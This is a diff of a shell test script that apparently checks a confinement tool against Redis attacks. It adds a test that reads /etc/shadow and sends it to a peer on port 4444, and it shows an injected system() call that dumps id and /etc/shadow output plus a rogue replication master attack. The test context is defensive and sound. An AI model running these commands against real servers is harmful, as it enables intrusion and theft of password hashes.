@@ -372,7 +372,7 @@ attack_reverse_shell() {
 
 # follow_rogue FILE DIR NAME: the attacker's server becomes the master, and gives a file in place of a data set.
 follow_rogue() {
-	in_network python3 "$here/rogue_master.py" "$peer_address" 6666 "$1" &
+	nsenter -t "$peers_network_pid" -n python3 "$here/rogue_master.py" "$peer_address" 6666 "$1" &
 	children[$!]=1
 	until_true "$patience" port_listens 6666
 	cli config set dir "$2"
@@ -413,6 +413,14 @@ attack_code_shell() {
 	harm exec '*/dash'
 	inject redis redis-server 'print (int) system("id >/tmp/out; cat /etc/shadow >>/tmp/out")'
 	session redis /bin/grep uid=0 /tmp/out
+}
+
+attack_code_secret() {
+	harm open /etc/shadow
+	harm connect "$peer_address:4444"
+	thief_begin
+	code_steal redis redis-server /etc/shadow
+	thief_got ^root:
 }
 
 # ---- adaptive: by commands that clients use ----
